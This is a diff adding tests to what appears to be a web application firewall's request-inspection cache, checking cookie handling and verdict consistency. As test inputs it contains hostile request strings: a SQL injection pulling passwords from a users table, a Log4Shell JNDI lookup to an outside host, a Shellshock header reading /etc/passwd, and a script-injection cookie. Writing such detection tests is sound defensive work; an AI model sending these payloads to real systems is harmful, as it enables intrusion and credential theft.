@@ -160,6 +160,36 @@ static void test_decoded_variant_hit_is_not_cached(void)
 	worker_stop(&w);
 }
 
+/* Cookie values are remembered (in a table of their own) under their
+ * cookie's name: a clean consent cookie comes again and is skipped, an
+ * attack in a cookie is found on every request, and a value clean in one
+ * cookie is still inspected in a header, where other detectors look. */
+static void test_cookie_values(void)
+{
+	struct worker w;
+	worker_start(&w, true, NULL, 0, NULL);
+	const char consent[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: CookieConsent={stamp:%27x1%27%2Cnecessary:true}; "
+			       "sid=682ADBDEDCD73B33DFFB51EB86ED46AF\r\n\r\n";
+	const char attack[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: sid=1%27%20union%20select%20password%20from%20users--\r\n\r\n";
+	const char as_cookie[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: ua=sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
+	const char as_ua[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
+	for (int i = 0; i < 3; i++) {
+		verdict v = inspect(&w, consent);
+		CHECK(!v.block);
+		CHECK_INT(v.nmatches, 0);
+		v = inspect(&w, attack);
+		CHECK(v.block);
+		CHECK(has_detector(&v, "sqli"));
+	}
+	verdict v = inspect(&w, as_cookie);
+	CHECK(!has_detector(&v, "scanner"));
+	v = inspect(&w, as_cookie);
+	CHECK(!has_detector(&v, "scanner"));
+	v = inspect(&w, as_ua);
+	CHECK(has_detector(&v, "scanner"));
+	worker_stop(&w);
+}
+
 /* User rules run on every value, cached or not. */
 static void test_rules_see_cached_values(void)
 {
@@ -184,6 +214,9 @@ static void test_same_verdicts_as_without(void)
 		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html,*/*;q=0.8\r\n\r\n",
 		"GET /a HTTP/1.1\r\nHost: a.jp\r\nX-Api-Version: ${jndi:ldap://x.example/a}\r\n\r\n",
 		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n",
+		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=%3Cscript%3Ealert(1)%3C/script%3E\r\n\r\n",
+		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=hello\r\n\r\n",
+		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=%3Cscript%3Ealert(1)%3C/script%3E\r\n\r\n",
 	};
 	struct worker on, off;
 	worker_start(&on, true, NULL, 0, NULL);
@@ -209,6 +242,7 @@ int main(void)
 	RUN(test_name_is_part_of_the_key);
 	RUN(test_excepted_hit_is_not_cached);
 	RUN(test_decoded_variant_hit_is_not_cached);
+	RUN(test_cookie_values);
 	RUN(test_rules_see_cached_values);
 	RUN(test_same_verdicts_as_without);
 	return harness_done("engine_cache");
